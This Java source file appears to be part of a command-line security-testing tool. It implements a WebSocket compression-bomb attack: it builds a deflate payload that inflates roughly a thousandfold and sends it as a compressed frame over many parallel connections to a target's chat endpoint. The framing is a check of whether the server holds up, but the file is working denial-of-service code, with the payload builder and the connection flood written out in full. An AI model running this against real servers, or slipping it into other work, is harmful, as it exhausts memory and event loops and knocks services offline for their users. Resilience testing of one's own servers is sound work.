package dev.rill.cli.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.zip.Deflater;

/**
 * WebSocket compression bomb: each connection offers compression ({@code permessage-deflate}, or the
 * older {@code x-webkit-deflate-frame}) and sends one text frame marked compressed (RSV1) whose
 * deflate stream inflates to {@code inflatedBytes}: about a thousandth of that on the wire. A
 * server that inflates whole messages before checking their size spends seconds of an event loop
 * and that much memory per frame. Held: the server negotiated no compression and ended every
 * connection (a compressed frame it did not agree to is a protocol error) within {@code waitMs}.
 */
public final class CompressionBomb implements Attack {

    private static final int MIB = 1 << 20;
    private static final String NEGOTIATED = "compression negotiated";
    private static final String[] OFFERS = {"permessage-deflate; client_max_window_bits", "x-webkit-deflate-frame"};

    private final int connections;
    private final long inflatedBytes;
    private final int waitMs;
    private byte[] bomb;

    public CompressionBomb(int connections, long inflatedBytes, int waitMs) {
        this.connections = connections;
        this.inflatedBytes = inflatedBytes;
        this.waitMs = waitMs;
    }

    @Override
    public String name() {
        return String.format(Locale.ROOT, "WebSocket compression bomb (%d x %d MiB inflated)", connections, inflatedBytes >> 20);
    }

    /**
     * A raw deflate stream of {@code inflated} spaces without its final 00 00 ff ff, as RFC 7692 frames
     * carry it: one sync-flushed MiB, repeated (a sync flush ends on a byte boundary with no
     * back-reference across it, so the copies concatenate into one valid stream).
     */
    public static byte[] deflateBomb(long inflated) {
        if (inflated % MIB != 0 || inflated <= 0) throw new IllegalArgumentException("a whole number of MiB, please");
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        byte[] spaces = new byte[MIB];
        Arrays.fill(spaces, (byte) ' ');
        deflater.setInput(spaces);
        byte[] buf = new byte[1 << 16];
        ByteArrayOutputStream chunk = new ByteArrayOutputStream();
        int k;
        do {
            k = deflater.deflate(buf, 0, buf.length, Deflater.SYNC_FLUSH);
            chunk.write(buf, 0, k);
        } while (k == buf.length || !deflater.needsInput());
        deflater.end();
        byte[] one = chunk.toByteArray();
        int copies = (int) (inflated / MIB);
        byte[] all = new byte[one.length * copies - 4];
        for (int i = 0; i < copies; i++) System.arraycopy(one, 0, all, i * one.length, Math.min(one.length, all.length - i * one.length));
        return all;
    }

    @Override
    public Result run(Target target) throws Exception {
        if (bomb == null) bomb = deflateBomb(inflatedBytes);
        try (ExecutorService pool = Executors.newFixedThreadPool(connections)) {
            List<Future<String>> outcomes = new ArrayList<>();
            for (int i = 0; i < connections; i++) {
                String offer = OFFERS[i % OFFERS.length];
                outcomes.add(pool.submit(() -> oneConnection(target, offer)));
            }
            List<String> seen = new ArrayList<>();
            boolean held = true;
            for (Future<String> f : outcomes) {
                String o = f.get();
                held &= o.startsWith("closed") && !o.contains(NEGOTIATED);
                if (!seen.contains(o)) seen.add(o);
            }
            return new Result(connections, held, String.join("; ", seen));
        }
    }

    private String oneConnection(Target target, String offer) throws IOException {
        try (RawSocket s = target.connect(waitMs)) {
            RawSocket.Head head = s.upgrade(target.base(), "/ws/chat", target.authorizationHeader() + "Sec-WebSocket-Extensions: " + offer + "\r\n");
            if (head.status() != 101) return "handshake refused: HTTP " + head.status();
            String accepted = head.header("sec-websocket-extensions");
            try {
                s.writeFrame(1, true, bomb);
            } catch (IOException e) {
                return "closed while sending" + negotiated(accepted);
            }
            long start = System.nanoTime();
            try {
                while (true) {
                    RawSocket.Frame f = s.readFrame();
                    long ms = (System.nanoTime() - start) / 1_000_000;
                    if (f.opcode() == -1) return "closed (no close frame) after " + ms + " ms" + negotiated(accepted);
                    if (f.opcode() == 8) return "closed with code " + f.closeCode() + negotiated(accepted);
                    if (f.opcode() == 1) return "answered " + summary(f.text()) + negotiated(accepted);
                }
            } catch (SocketTimeoutException e) {
                return "no answer within " + waitMs + " ms" + negotiated(accepted);
            }
        }
    }

    private static String negotiated(String accepted) {
        return accepted == null ? "" : ", " + NEGOTIATED + " (" + accepted + ")";
    }

    private static String summary(String text) {
        int code = text.indexOf("\"code\"");
        return code < 0 ? "a frame" : "error " + text.substring(code, Math.min(text.length(), code + 40)).replaceAll("[,}].*", "");
    }
}
